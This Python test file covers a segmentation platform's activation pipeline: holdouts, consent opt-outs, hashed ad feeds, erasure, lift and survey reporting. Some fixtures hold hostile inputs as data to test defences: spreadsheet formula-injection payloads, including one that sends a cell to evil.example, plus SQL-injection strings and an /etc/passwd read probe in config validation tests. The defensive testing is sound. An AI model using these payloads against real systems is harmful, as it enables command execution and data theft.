"""Activation on the demo's December: feeds, holdouts, consent, erasure and lift, end to end."""

import csv as csv_module
import hashlib
import os

import dagster as dg
import duckdb
import numpy as np
import polars as pl
import pytest

from seg_platform.activation.destinations import Written, write_atomic
from seg_platform.definitions import defs
from seg_platform.identity.assets import SPECS

DECEMBER = "2025-12-01"
DESTINATIONS = ("ads_audience", "crm", "email_platform", "in_app")
IDENTITY = [f"identity/{name}" for name in SPECS]  # the identity step's asset keys


def _frame(home, sql, params=None) -> pl.DataFrame:
    with duckdb.connect(str(home.warehouse), read_only=True) as con:
        return con.sql(sql, params=params).pl()


def _materialize(selection: list[str], partition: str | None = DECEMBER):
    """Materialize the assets of `selection` (keys: `activation/activation_feeds`)."""
    assets = [a for a in defs.assets if any(k.to_user_string() in selection for k in a.keys)]
    result = dg.materialize(
        assets, partition_key=partition, resources=defs.resources, selection=selection,
        raise_on_error=False,
    )  # fmt: skip
    checks = {
        e.event_specific_data.check_name: e.event_specific_data.passed
        for e in result.all_events
        if e.event_type_value == "ASSET_CHECK_EVALUATION"
    }
    return result, checks


def test_feeds_are_published_with_holdouts_consent_and_hashed_ads(demo_december):
    home, company = demo_december
    feed = _frame(home, "FROM activation.feed_members WHERE as_of_date = '2025-12-31'")
    groups = _frame(home, "FROM activation.experiment_groups WHERE as_of_date = '2025-12-31'")
    sizes = _frame(home, "SELECT segment_id, customers FROM segments.segment_profiles "
                         "WHERE as_of_date = '2025-12-31'")  # fmt: skip
    assert set(feed["destination"]) == set(DESTINATIONS)

    # Holdout: deterministic from the profile id and the salt, about 10% of every segment.
    expected = [
        int(hashlib.sha256(f"seg_platform:{p}".encode()).hexdigest()[:15], 16) / 2**60 < 0.10
        for p in groups["profile_id"]
    ]
    assert (groups["group"] == "control").to_list() == expected
    share = groups.group_by("segment_id").agg((pl.col("group") == "control").mean().alias("s"))
    big = share.join(sizes, on="segment_id").filter(pl.col("customers") >= 100)
    assert big["s"].is_between(0.06, 0.14).all(), big
    assert groups.height == sizes["customers"].sum()
    control = set(groups.filter(pl.col("group") == "control")["profile_id"])
    assert control and not control & set(feed["profile_id"])

    # Consent: nobody whose latest email (or all) change is an opt-out is in the email feed.
    consent = _frame(home, "FROM activation.consent_status")
    assert consent.height > 0 and set(consent["status"]) == {"opt_in", "opt_out"}
    latest = (
        consent.filter(pl.col("channel").is_in(["email", "all"]))
        .sort("changed_at", "status")
        .group_by("profile_id").agg(pl.col("status").last())
    )  # fmt: skip
    out = set(latest.filter(pl.col("status") == "opt_out")["profile_id"])
    email_feed = set(feed.filter(pl.col("destination") == "email_platform")["profile_id"])
    in_segment_email = set(
        _frame(home, """SELECT a.profile_id FROM segments.segment_assignments a
            JOIN segments.segment_profiles s USING (as_of_date, segment_id)
            WHERE as_of_date = '2025-12-31' AND s.action_channel = 'email'""")["profile_id"]
    )  # fmt: skip
    assert out & in_segment_email, "the demo has opted-out customers in email segments"
    assert not out & email_feed

    # Files: stable names, CSV and Parquet with the table's rows, recorded with their hash.
    published = _frame(home, "FROM activation.published_feeds WHERE as_of_date = '2025-12-31'")
    root = home.root / "activation"
    assert published.height == len(DESTINATIONS) * 4
    for row in published.iter_rows(named=True):
        path = root / row["file"]
        assert path.name.startswith(f"{row['destination']}_2025-12_{row['kind']}.")
        assert hashlib.sha256(path.read_bytes()).hexdigest() == row["sha256"]
        frame = pl.read_parquet(path) if path.suffix == ".parquet" else pl.read_csv(path)
        assert frame.height == row["rows"]
    members = pl.read_parquet(root / "email_platform" / "email_platform_2025-12_members.parquet")
    assert members.height == feed.filter(pl.col("destination") == "email_platform").height
    assert "email" in members.columns and members["email"].null_count() == 0
    view = _frame(home, "FROM activation.feed_email_platform WHERE as_of_date = '2025-12-31'")
    assert view.height == members.height and set(view["profile_id"]) == set(members["profile_id"])

    # Ads: SHA-256 of the normalised email and phone, never the raw values.
    ads_file = root / "ads_audience" / "ads_audience_2025-12_members.csv"
    ads = pl.read_csv(ads_file)
    assert {"email_sha256", "phone_sha256"} <= set(ads.columns)
    assert not {"email", "phone", "user_id", "crm_id"} & set(ads.columns)
    assert "@" not in ads_file.read_text()
    contacts = _frame(
        home, "SELECT profile_id, min(value) AS email FROM identity.identity_map "
              "WHERE id_type = 'email' GROUP BY ALL")  # fmt: skip
    sample = ads.join(contacts, on="profile_id").head(50)
    assert sample.height == 50
    assert sample["email_sha256"].to_list() == [
        hashlib.sha256(e.encode()).hexdigest() for e in sample["email"]
    ]

    # The first feed of each destination: everyone entered.
    changes = _frame(home, "FROM activation.feed_changes WHERE as_of_date = '2025-12-31'")
    assert set(changes["change"]) == {"entered"}
    segment_rows = feed.filter(pl.col("audience_kind") == "segment")
    assert changes.filter(pl.col("audience_kind") == "segment").height == segment_rows.height


def test_reconciliation_and_checks_recomputed(demo_december):
    home, _ = demo_december
    counts = _frame(home, "FROM activation.feed_counts WHERE as_of_date = '2025-12-31'")
    fed = _frame(
        home,
        "SELECT destination, audience_kind, audience, segment_id, count(*) AS rows "
        "FROM activation.feed_members WHERE as_of_date = '2025-12-31' GROUP BY ALL",
    )
    joined = counts.join(fed, on=["destination", "audience_kind", "audience", "segment_id"],
                         how="left").fill_null(0)  # fmt: skip
    assert (
        joined["rows"]
        == joined["members"] - joined["control"] - joined["opted_out"] - joined["unreachable"]
    ).all()
    assert joined["opted_out"].sum() > 0 and joined["control"].sum() > 0

    import datetime as dt

    from seg_platform.activation.assets import audience_checks
    from seg_platform.activation.config import load_destinations

    with duckdb.connect(str(home.warehouse), read_only=True) as con:
        results = audience_checks(con, dt.date(2025, 12, 31), load_destinations())
    assert {r.check_name: r.passed for r in results} == {
        "no_opted_out_customer_in_feeds": True,
        "no_control_member_in_feeds": True,
        "feed_segments_are_validated_segments": True,
        "feed_counts_reconcile": True,
        "hashed_destinations_carry_no_raw_identifiers": True,
    }


def test_a_file_is_never_half_written(tmp_path, monkeypatch):
    path = tmp_path / "feed.parquet"
    old = pl.DataFrame({"profile_id": ["a", "b"]})
    digest = write_atomic(old, path)
    assert write_atomic(old, path) == digest  # same rows, same bytes

    def broken(self, file, **kwargs):
        with open(file, "wb") as f:
            f.write(b"PAR1 half a file")
        raise OSError("disk full")

    monkeypatch.setattr(pl.DataFrame, "write_parquet", broken)
    with pytest.raises(OSError, match="disk full"):
        write_atomic(pl.DataFrame({"profile_id": ["c"]}), path)
    assert pl.read_parquet(path).equals(old)
    assert [p.name for p in tmp_path.iterdir()] == ["feed.parquet"]


def test_csv_feeds_are_safe_to_open_in_a_spreadsheet(tmp_path):
    """A text cell a spreadsheet would run as a formula is prefixed with `'` in the CSV feed
    (OWASP); numbers stay numbers, hashes and ordinary text stay as they are, and the Parquet
    feed keeps every value."""
    from seg_platform.activation.destinations import publish_files

    dde = "=cmd|' /C calc'!A0"
    crafted = [dde, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
    n = len(crafted) + 2
    frame = pl.DataFrame(
        {
            "profile_id": [f"p{i}" for i in range(n)],
            "segment_id": [-1, -2, 3, 4, 5, 6, 7, 8],
            "segment_name": [*crafted, "Loyalists", None],
            "email": ['=HYPERLINK("http://evil.example/?"&A1)@x.org', *["a@b.org"] * (n - 1)],
            "email_sha256": [hashlib.sha256(f"{i}".encode()).hexdigest() for i in range(n)],
            "amount": [-1.5, *[2.0] * (n - 1)],
        }
    )
    written = publish_files(tmp_path, "crm", "2025-12", {"members": frame})
    assert {row[1] for row in written} == {"crm/crm_2025-12_members.csv",
                                           "crm/crm_2025-12_members.parquet"}  # fmt: skip
    csv = pl.read_csv(tmp_path / "crm" / "crm_2025-12_members.csv", infer_schema=False)
    assert csv["segment_name"].to_list() == [*(f"'{v}" for v in crafted), "Loyalists", None]
    assert csv["email"][0] == "'" + frame["email"][0] and csv["email"][1] == "a@b.org"
    assert csv["email_sha256"].to_list() == frame["email_sha256"].to_list()
    assert csv["segment_id"].to_list()[:2] == ["-1", "-2"]  # numbers are not text cells
    assert csv["amount"][0] == "-1.5"
    with open(tmp_path / "crm" / "crm_2025-12_members.csv", newline="") as f:
        cells = [cell for row in csv_module.reader(f) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    parquet = pl.read_parquet(tmp_path / "crm" / "crm_2025-12_members.parquet")
    assert parquet.equals(frame)


def test_opting_out_of_email_leaves_only_the_email_feed(demo_copy):
    home, landing = demo_copy
    before = _frame(home, "FROM activation.feed_members WHERE as_of_date = '2025-12-31'")
    shas = dict(_frame(home, "SELECT file, sha256 FROM activation.published_feeds").iter_rows())
    by = before.group_by("profile_id").agg(pl.col("destination").unique())
    target = by.filter(
        pl.col("destination").list.contains("email_platform")
        & pl.col("destination").list.contains("ads_audience")
    )["profile_id"][0]
    email = _frame(home, "SELECT min(value) AS e FROM identity.identity_map WHERE "
                         "profile_id = ? AND id_type = 'email'", [target])["e"][0]  # fmt: skip
    consent = landing / "consent" / "consent_2025-12.csv"
    with consent.open("a") as f:
        f.write(f"cns_test_optout,2025-12-30 12:00:00,  {email.upper()} ,,,email,opt_out\n")

    # Publishing the same rows again writes the same bytes; the opt-out changes one feed only.
    # The new spelling of the email is normalised by the identity step.
    result, checks = _materialize(
        ["raw/consent", *IDENTITY, "activation/activation_audiences", "activation/activation_feeds"]
    )
    assert result.success and all(checks.values()), checks
    after = _frame(home, "FROM activation.feed_members WHERE as_of_date = '2025-12-31'")
    mine = after.filter(pl.col("profile_id") == target)
    assert "email_platform" not in set(mine["destination"])
    assert set(mine["destination"]) == set(
        before.filter(pl.col("profile_id") == target)["destination"]
    ) - {"email_platform"}
    members = pl.read_csv(
        home.root / "activation" / "email_platform" / "email_platform_2025-12_members.csv"
    )
    assert target not in set(members["profile_id"])
    assert email not in members["email"].to_list()
    ads = pl.read_csv(
        home.root / "activation" / "ads_audience" / "ads_audience_2025-12_members.csv"
    )
    assert target in set(ads["profile_id"])
    now = dict(_frame(home, "SELECT file, sha256 FROM activation.published_feeds").iter_rows())
    changed = {f for f in now if now[f] != shas[f]}
    assert changed == {
        "email_platform/email_platform_2025-12_members.csv",
        "email_platform/email_platform_2025-12_members.parquet",
        "email_platform/email_platform_2025-12_changes.csv",
        "email_platform/email_platform_2025-12_changes.parquet",
    }


class _MemoryDestination:
    """A destination kept in memory: records every call the assets make through the interface."""

    calls: list[tuple] = []

    def __init__(self, name, folder):
        self.name = name

    def publish(self, month, frames):
        self.calls.append(("publish", self.name, month, dict(frames)))
        return [
            Written(k, f"memory:{self.name}/{month}/{k}", f.height, "-") for k, f in frames.items()
        ]

    def erase(self, month, profile_ids, remaining):
        self.calls.append(("erase", self.name, month, list(profile_ids), dict(remaining)))
        return [
            Written(k, f"memory:{self.name}/{month}/{k}", f.height, "-")
            for k, f in remaining.items()
        ]

    def mismatches(self, written):
        self.calls.append(("mismatches", self.name, [w.file for w in written]))
        return []

    def describe(self):
        return {"kind": "memory"}


def test_feeds_and_erasure_go_through_the_destination_interface(demo_copy, tmp_path, monkeypatch):
    """A destination kind registered in DESTINATION_KINDS and named by `kind:` in the file
    receives the month's publish and, after a request, the erase: the assets write no file."""
    from seg_platform.activation import config, destinations

    home, landing = demo_copy
    monkeypatch.setitem(destinations.DESTINATION_KINDS, "memory", _MemoryDestination)
    monkeypatch.setattr(_MemoryDestination, "calls", [])
    text = config.DEFAULT_DESTINATIONS.read_text()
    for name in DESTINATIONS:
        text = text.replace(f"  {name}:\n", f"  {name}:\n    kind: memory\n")
    path = tmp_path / "destinations.yaml"
    path.write_text(text)
    monkeypatch.setattr(config, "DEFAULT_DESTINATIONS", path)
    assert {d.kind for d in config.load_destinations()} == {"memory"}
    folder = home.root / "activation"
    files_before = {p: p.stat().st_mtime_ns for p in folder.rglob("*")}

    result, checks = _materialize(["activation/activation_feeds"])
    assert result.success and all(checks.values()), checks
    published = [c for c in _MemoryDestination.calls if c[0] == "publish"]
    assert sorted(c[1] for c in published) == sorted(DESTINATIONS)
    feed = _frame(home, "FROM activation.feed_members WHERE as_of_date = '2025-12-31'")
    for _, name, month, frames in published:
        assert month == "2025-12" and set(frames) == {"members", "changes"}
        assert frames["members"].height == feed.filter(pl.col("destination") == name).height
    assert {c[1] for c in _MemoryDestination.calls if c[0] == "mismatches"} == set(DESTINATIONS)
    recorded = _frame(home, "SELECT file FROM activation.published_feeds "
                            "WHERE as_of_date = '2025-12-31'")["file"]  # fmt: skip
    assert all(f.startswith("memory:") for f in recorded)
    assert {p: p.stat().st_mtime_ns for p in folder.rglob("*")} == files_before

    target = feed.filter(pl.col("destination") == "email_platform")["profile_id"].sort()[0]
    email = _frame(home, "SELECT min(value) AS e FROM identity.identity_map WHERE "
                         "profile_id = ? AND id_type = 'email'", [target])["e"][0]  # fmt: skip
    (landing / "erasure_requests" / "erasure_requests.csv").write_text(
        "request_id,requested_at,email,phone,user_id,crm_id,customer_key\n"
        f"req_test_1,2026-01-05 10:00:00,{email},,,,\n"
    )
    result, checks = _materialize(
        ["raw/erasure_requests", *IDENTITY, "privacy/erasure"], partition=None
    )
    assert result.success and all(checks.values()), checks
    erased = [c for c in _MemoryDestination.calls if c[0] == "erase"]
    assert "email_platform" in {c[1] for c in erased}
    for _, _name, month, profile_ids, remaining in erased:
        assert month == "2025-12" and target in profile_ids
        assert target not in set(remaining["members"]["profile_id"])
    assert {p: p.stat().st_mtime_ns for p in folder.rglob("*")} == files_before


def _identifiers(home, profile_id: str) -> list[str]:
    values = _frame(
        home,
        """SELECT m.value, v.raw_value FROM identity.identity_map m
           LEFT JOIN identity.identifier_values v USING (id_type, value)
           WHERE m.profile_id = ?""",
        [profile_id],
    )
    found = {profile_id, *values["value"], *(v.strip() for v in values["raw_value"] if v)}
    return sorted(v for v in found if len(v) >= 5)


def _everything_mentioning(home, needles: list[str]) -> list[tuple[str, str]]:
    """Every table and view of the warehouse, and every other file under the home (MLflow
    store and artifacts, Dagster storage, feed files), searched for each needle."""
    hits = []
    lowered = [n.lower() for n in needles]
    with duckdb.connect(str(home.warehouse), read_only=True) as con:
        tables = con.sql(
            "SELECT table_schema, table_name FROM information_schema.tables"
        ).fetchall()
        for schema, table in tables:
            name = f'"{schema}"."{table}"'
            columns = [c[0] for c in con.sql(f"DESCRIBE {name}").fetchall()]
            text = " || '|' || ".join(f"coalesce(CAST(\"{c}\" AS VARCHAR), '')" for c in columns)
            # One scan of the table for all the needles (a scan per needle took minutes).
            sql = (
                f"SELECT DISTINCT needle FROM (SELECT lower({text}) AS row_text FROM {name}), "
                "unnest(?::VARCHAR[]) AS n(needle) WHERE contains(row_text, needle)"
            )
            found = {row[0] for row in con.execute(sql, [lowered]).fetchall()}
            hits += [(f"{schema}.{table}", n) for n in lowered if n in found]
    for path in home.root.rglob("*"):
        if not path.is_file() or path.name.startswith("warehouse.duckdb"):
            continue
        if path.suffix == ".parquet":
            data = pl.read_parquet(path).cast(pl.String).write_csv().lower().encode()
        else:
            data = path.read_bytes().lower()
        hits += [(str(path), n) for n in lowered if n.encode() in data]
    return hits


def test_erasure_leaves_nothing_of_the_person_and_aggregates_add_up(demo_december, demo_erased):
    """The demo after one person's erasure request and the next run (raw, identity, erasure,
    staging: the refresh job), `demo_erased`; the person as they were in the demo before."""
    demo, _ = demo_december
    home, target = demo_erased.home, demo_erased.profile
    needles = _identifiers(demo, target)
    assert demo_erased.email in needles
    assert _everything_mentioning(demo, [demo_erased.email])  # found before the request
    sizes_before = _frame(demo, "SELECT as_of_date, segment_id, customers FROM "
                                "segments.segment_profiles ORDER BY ALL")  # fmt: skip
    assert demo_erased.succeeded

    assert len(needles) >= 5
    assert _everything_mentioning(home, needles) == []
    log = _frame(home, "FROM privacy.erasure_log")
    assert log["request_id"].to_list() == [demo_erased.request_id]
    assert log["persons"].to_list() == [1]
    # The request itself is kept pseudonymised.
    request = _frame(home, "FROM raw.erasure_requests")
    assert request.height == 1 and len(request["email"][0]) == 64

    # Aggregates: segment sizes, shares and migration still add up to what remains.
    sizes = _frame(home, "SELECT as_of_date, segment_id, customers FROM segments.segment_profiles "
                         "ORDER BY ALL")  # fmt: skip
    counted = _frame(home, "SELECT as_of_date, segment_id, count(*) AS n FROM "
                           "segments.segment_assignments GROUP BY ALL ORDER BY ALL")  # fmt: skip
    assert sizes.join(counted, on=["as_of_date", "segment_id"])["customers"].equals(
        sizes.join(counted, on=["as_of_date", "segment_id"])["n"]
    )
    assert sizes["customers"].sum() == sizes_before["customers"].sum() - 1
    shares = _frame(home, "SELECT as_of_date, sum(share) AS s FROM segments.segment_profiles "
                          "GROUP BY ALL")  # fmt: skip
    assert np.allclose(shares["s"].to_numpy(), 1.0)
    # The feed files were written again without the person, and still match their hashes.
    for row in _frame(home, "FROM activation.published_feeds").iter_rows(named=True):
        data = (home.root / "activation" / row["file"]).read_bytes()
        assert hashlib.sha256(data).hexdigest() == row["sha256"]
        assert target.encode() not in data


def test_lift_recovers_a_planted_treatment_effect(demo_copy):
    """Outcomes for December's activation arrive in January: a planted conversion of 10% in
    control and 25% among the treated; the lift's interval covers the true +15 points."""
    home, _ = demo_copy
    groups = _frame(home, 'SELECT profile_id, "group" FROM activation.experiment_groups '
                          "WHERE as_of_date = '2025-12-31' ORDER BY profile_id")  # fmt: skip
    rng = np.random.default_rng(7)
    rate = np.where(groups["group"] == "treatment", 0.25, 0.10)
    buyers = groups.filter(pl.Series(rng.random(groups.height) < rate))
    orders = buyers.select(
        "profile_id",
        pl.concat_str(pl.lit("planted-"), "profile_id").alias("order_line_key"),
        pl.concat_str(pl.lit("planted-"), "profile_id").alias("order_id"),
        pl.lit("2026-01-31 12:00:00").str.to_datetime().alias("order_ts"),
        pl.lit("completed").alias("status"),
        pl.lit("books").alias("category"),
        pl.lit(40.0).alias("amount"),
    )
    with duckdb.connect(str(home.warehouse)) as con:
        con.register("planted", orders)
        con.execute("INSERT INTO staging.stg_orders SELECT * FROM planted")
    result, checks = _materialize(["activation/campaign_lift"], partition="2026-01-01")
    assert result.success and all(checks.values()), checks
    lift = _frame(home, "FROM activation.lift WHERE as_of_date = '2026-01-31'")
    overall = lift.filter((pl.col("segment_id") == "all") & (pl.col("metric") == "conversion"))
    assert set(overall["analysis"]) == {"sent", "intent_to_treat"} and overall.height == 2
    for row in overall.iter_rows(named=True):
        assert row["activation_month"].isoformat() == "2025-12-31"
        assert row["ci_low"] <= 0.15 <= row["ci_high"]
        assert row["ci_low"] > 0
    itt = overall.filter(pl.col("analysis") == "intent_to_treat").row(0, named=True)
    assert itt["treated_n"] + itt["control_n"] == groups.height
    # `sent`: only members a feed published count as treated, against the control members a
    # feed could have reached (consent and an identifier): fewer than everyone assigned.
    members = _frame(
        home,
        """SELECT g."group", bool_or(m.status = 'published') AS sent,
                        bool_or(m.reachable) AS reachable
                 FROM activation.experiment_groups g JOIN activation.audience_members m
                   USING (as_of_date, profile_id)
                 WHERE as_of_date = '2025-12-31' GROUP BY g.profile_id, g."group" """,
    )
    sent = overall.filter(pl.col("analysis") == "sent").row(0, named=True)
    treated = members.filter((pl.col("group") == "treatment") & pl.col("sent")).height
    reachable = members.filter((pl.col("group") == "control") & pl.col("reachable")).height
    assert (sent["treated_n"], sent["control_n"]) == (treated, reachable)
    assert 0 < treated < itt["treated_n"] and 0 < reachable < itt["control_n"]
    lift = lift.filter(pl.col("analysis") == "intent_to_treat")
    segments = lift.filter((pl.col("segment_id") != "all") & pl.col("ci_low").is_not_null())
    assert segments.height >= 2
    assert ((segments["ci_low"] <= 0.15) & (segments["ci_high"] >= 0.15)).all()
    small = lift.filter((pl.col("segment_id") != "all") & pl.col("ci_low").is_null())
    assert (small["control_n"] < 30).all() and small["note"].str.contains("fewer than 30").all()
    assert os.path.isdir(home.mlflow_artifacts / "activation_lift")


def _check_events(result) -> dict:
    return {
        e.event_specific_data.check_name: e.event_specific_data
        for e in result.all_events
        if e.event_type_value == "ASSET_CHECK_EVALUATION"
    }


def test_a_company_nobody_can_be_reached_in_warns_and_measures_no_lift(demo_copy):
    """Orders carry no email (CDNOW, Online Retail): no action is promised on a channel that
    cannot reach anyone, every empty feed is a warning, and no lift is reported for a
    campaign that reached no one (issue 19, point 3)."""
    home, _ = demo_copy
    result, _ = _materialize(["activation/activation_feeds"])
    warn = _check_events(result)["every_feed_reaches_someone"]
    assert warn.passed, warn.description  # the demo company reaches someone in every feed

    # The identity graph keeps only shop customer keys: no email, phone, app user or CRM id.
    with duckdb.connect(str(home.warehouse)) as con:
        con.execute("DELETE FROM identity.identity_map "
                    "WHERE id_type IN ('email', 'phone', 'user_id', 'crm_id')")  # fmt: skip
    segment_keys = [
        f"segments/{name}"
        for name in ("segment_assignments", "segment_profiles", "segment_migration")
    ]
    result, checks = _materialize(
        [*segment_keys, "activation/activation_audiences", "activation/activation_feeds"]
    )
    assert result.success, checks
    profiles = _frame(home, "FROM segments.segment_profiles WHERE as_of_date = '2025-12-31'")
    assert profiles.height >= 5
    assert (profiles["action_channel"] == "none").all()
    assert (~profiles["action_deliverable"]).all()
    assert profiles["action"].str.starts_with("No reachable channel").all()
    feed = _frame(home, "FROM activation.feed_members WHERE as_of_date = '2025-12-31'")
    assert feed.height == 0
    warn = _check_events(result)["every_feed_reaches_someone"]
    assert not warn.passed and warn.severity == dg.AssetCheckSeverity.WARN
    for destination in DESTINATIONS:
        assert f"{destination}: " in warn.description
    assert "0 of " in warn.description and "unreachable" in warn.description

    # January's orders arrive; December reached nobody, so there is no lift to report.
    result, _ = _materialize(["activation/campaign_lift"], partition="2026-01-01")
    assert result.success
    (measured,) = _frame(
        home, "SELECT count(*) AS n FROM duckdb_tables() "
              "WHERE schema_name = 'activation' AND table_name = 'lift'")["n"]  # fmt: skip
    if measured:  # no lift table at all is right too: nothing was ever measured
        lift = _frame(home, "FROM activation.lift WHERE as_of_date = '2026-01-31'")
        assert lift.height == 0
    (materialized,) = [
        e.event_specific_data.materialization for e in result.all_events
        if e.event_type_value == "ASSET_MATERIALIZATION"
    ]  # fmt: skip
    notes = materialized.metadata["notes"].value
    assert "2025-12: no lift, 0 members were sent" in notes


def test_erasure_decreases_migration_counts_cell_by_cell():
    """Two months, three customers; erasing one removes exactly their cells."""
    from seg_platform.core.warehouse import replace_tables
    from seg_platform.privacy.erasure import _aggregate_statements

    con = duckdb.connect()
    con.execute("CREATE SCHEMA segments")
    con.execute("""CREATE TABLE segments.segment_assignments AS FROM (VALUES
        ('a', DATE '2025-11-30', 1), ('b', DATE '2025-11-30', 1), ('c', DATE '2025-11-30', 2),
        ('a', DATE '2025-12-31', 2), ('b', DATE '2025-12-31', 1), ('d', DATE '2025-12-31', 2))
        t(profile_id, as_of_date, segment_id)""")
    con.execute("""CREATE TABLE segments.segment_profiles AS
        SELECT *, customers / sum(customers) OVER (PARTITION BY as_of_date) AS share
        FROM (SELECT as_of_date, segment_id, count(*) AS customers
              FROM segments.segment_assignments GROUP BY ALL)""")
    con.execute("""CREATE TABLE segments.segment_migration AS FROM (VALUES
        (DATE '2025-12-31', 1, 2, 'moved', 1), (DATE '2025-12-31', 1, 1, 'stayed', 1),
        (DATE '2025-12-31', 2, NULL, 'departed', 1), (DATE '2025-12-31', NULL, 2, 'new', 1))
        t(as_of_date, from_segment_id, to_segment_id, movement, customers)""")
    con.execute("CREATE TEMP TABLE _erased_profiles AS SELECT 'a' AS profile_id")
    replace_tables(con, _aggregate_statements(con))
    migration = con.sql(
        "SELECT from_segment_id, to_segment_id, customers "
        "FROM segments.segment_migration ORDER BY ALL"
    ).fetchall()
    assert migration == [(1, 1, 1), (2, None, 1), (None, 2, 1)]
    sizes = con.sql(
        "SELECT as_of_date::VARCHAR, segment_id, customers, share "
        "FROM segments.segment_profiles ORDER BY ALL"
    ).fetchall()
    assert sizes == [
        ("2025-11-30", 1, 1, 0.5),
        ("2025-11-30", 2, 1, 0.5),
        ("2025-12-31", 1, 1, 0.5),
        ("2025-12-31", 2, 1, 0.5),
    ]


def test_survey_answers_are_reported_by_trigger_and_segment(demo_copy):
    """December's triggers ask treatment-group customers; January's answers to them are
    reported under their trigger and segment, the rest under 'not triggered'."""
    home, landing = demo_copy
    triggers = _frame(home, "FROM activation.survey_triggers WHERE as_of_date = '2025-12-31'")
    groups = _frame(home, 'SELECT profile_id, "group" FROM activation.experiment_groups '
                          "WHERE as_of_date = '2025-12-31'")  # fmt: skip
    assert set(triggers["survey_id"]) >= {"nps", "churn_reason"}
    asked = triggers.join(groups, on="profile_id")
    assert (asked["group"] == "treatment").all() and asked.height == triggers.height
    assert triggers.select("profile_id", "survey_id").is_unique().all()

    nps = triggers.filter(pl.col("survey_id") == "nps").sort("profile_id").head(20)
    emails = _frame(
        home, "SELECT profile_id, min(value) AS email FROM identity.identity_map "
              "WHERE id_type = 'email' GROUP BY ALL")  # fmt: skip
    answering = nps.join(emails, on="profile_id").head(10)
    assert answering.height == 10
    scores = [10, 9, 9, 8, 7, 10, 3, 9, 6, 10]  # 6 promoters, 2 detractors: NPS 40
    lines = ["response_id,responded_at,email,user_id,survey_id,score,answer"]
    lines += [
        f"rsp_test_{i},2026-01-10 09:00:00,{row['email']},,nps,{score},"
        for i, (row, score) in enumerate(zip(answering.iter_rows(named=True), scores, strict=True))
    ]
    lines.append("rsp_test_unknown,2026-01-10 09:00:00,nobody@example.org,,nps,5,")
    (landing / "survey_responses" / "survey_responses_2026-01.csv").write_text(
        "\n".join(lines) + "\n"
    )
    result, checks = _materialize(["raw/survey_responses", *IDENTITY, "activation/survey_report"])
    assert result.success and checks["every_response_accounted_for"], checks
    assert all(checks.values()), checks
    report = _frame(home, "FROM activation.survey_report WHERE survey_id = 'nps'")
    matched = report.filter(pl.col("trigger") == "repeat purchase")
    by_segment = answering.group_by("segment_name").len()
    assert matched["responses"].sum() == 10
    assert matched["asked"].sum() == triggers.filter(pl.col("survey_id") == "nps").height
    for row in by_segment.iter_rows(named=True):
        line = matched.filter(pl.col("segment_name") == row["segment_name"]).row(0, named=True)
        assert line["responses"] == row["len"]
        assert line["response_rate"] == round(row["len"] / line["asked"], 4)
    if matched.height == 1:
        assert matched["nps"][0] == 40.0
    overall = matched.select(
        (pl.col("mean_score") * pl.col("responses")).sum() / pl.col("responses").sum()
    ).item()
    assert overall == pytest.approx(sum(scores) / 10, abs=0.01)


# ------------------------------------------------------------------------------------------
# Configuration files: typed, one error format, no name reaches SQL unchecked


@pytest.mark.parametrize(
    ("text", "message"),
    [
        # A name that would have closed the SQL string it is put in.
        ("destinations:\n  d:\n    consent_channel: email\n    identifiers: [email]\n"
         "    segments: [\"email') OR true OR ('\"]",
         r"destinations.d.segments\[0\]: .* is not a lower_case name"),
        ("destinations:\n  \"d' UNION SELECT 1 --\":\n    consent_channel: email\n"
         "    identifiers: [email]",
         "destinations.d' UNION SELECT 1 --: the name .* is not a lower_case name"),
        ("destinations:\n  \"d\\n\":\n    consent_channel: email\n    identifiers: [email]",
         "is not a lower_case name"),
        ("destinations:\n  d:\n    consent_channel: email\n    identifiers: [email]\n"
         "    overlays: {\"x/y' OR true --\": hi}",
         "destinations.d.overlays.x/y' OR true --: the name .* is not `family/name`"),
        ("destinations:\n  d:\n    consent_channel: fax\n    identifiers: [email, ssn]\n"
         "    colour: red",
         "destinations.d.consent_channel: Input should be 'email', .* not 'fax'\n"
         r".*destinations.d.identifiers\[1\]: .* not 'ssn'\n"
         ".*destinations.d.colour: unknown setting; the settings here are: consent_channel"),
        ("destinations:\n  d:\n    consent_channel: ads\n    identifiers: [email]\n"
         "    hashed_only: true",
         r"destinations.d: hashed_only destinations may not receive raw \['email'\]"),
        ("destinations: {}", "destinations: must not be empty"),
        ("destinations:\n  d:\n    kind: api\n    consent_channel: email\n"
         "    identifiers: [email]",
         "destinations.d.kind: .*unknown destination kind 'api'; `kind` is one of file"),
    ],
)  # fmt: skip
def test_destination_files_are_typed(tmp_path, text, message):
    from seg_platform.activation.config import ActivationConfigError, load_destinations

    path = tmp_path / "destinations.yaml"
    path.write_text(text)
    with pytest.raises(ActivationConfigError, match=message) as error:
        load_destinations(path)
    assert all(line.startswith(f"{path}: ") for line in str(error.value).splitlines())
    assert "pydantic" not in str(error.value)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("surveys:\n  - {id: a, question: q, when: 'x > 1', segments: [\"t') OR true --\"]}",
         r"surveys\[0\].segments\[0\]: .* is not a lower_case name"),
        ("surveys:\n  - {id: \"a' OR true --\", question: q, when: 'x > 1'}",
         r"surveys\[0\].id: .* is not a lower_case name"),
        ("surveys:\n  - {id: a, question: q, when: 'x > 1', cooldown_days: '1 DAY) OR (1'}",
         r"surveys\[0\].cooldown_days: Input should be a valid integer"),
        ("surveys:\n  - {id: a, question: q, when: \"x = 'open\"}",
         r"surveys\[0\].when: is not a SQL condition: unbalanced quote"),
        ("surveys:\n  - {id: a, question: q, when: \"length(read_text('/etc/passwd')) > 0\"}",
         r"surveys\[0\].when: function read_text\(\) is not allowed"),
        ("surveys:\n  - {id: a, question: q, when: '(SUMMARIZE _signals)'}",
         r"surveys\[0\].when: .* is not allowed"),
        ("surveys:\n  - {id: a, question: q, when: 'x > 1'}\n"
         "  - {id: a, question: q, when: 'x > 1'}",
         r"surveys: survey ids repeat: \['a', 'a'\]"),
        ("surveys:\n  - {id: a, when: 'x > 1'}", r"surveys\[0\].question: required, but missing"),
    ],
)  # fmt: skip
def test_survey_files_are_typed(tmp_path, text, message):
    from seg_platform.activation.config import ActivationConfigError, load_surveys

    path = tmp_path / "surveys.yaml"
    path.write_text(text)
    with pytest.raises(ActivationConfigError, match=message) as error:
        load_surveys(path)
    assert all(line.startswith(f"{path}: ") for line in str(error.value).splitlines())


def test_survey_columns_are_checked_with_the_same_format(tmp_path):
    from seg_platform.activation.config import (
        ActivationConfigError,
        check_survey_columns,
        load_surveys,
    )

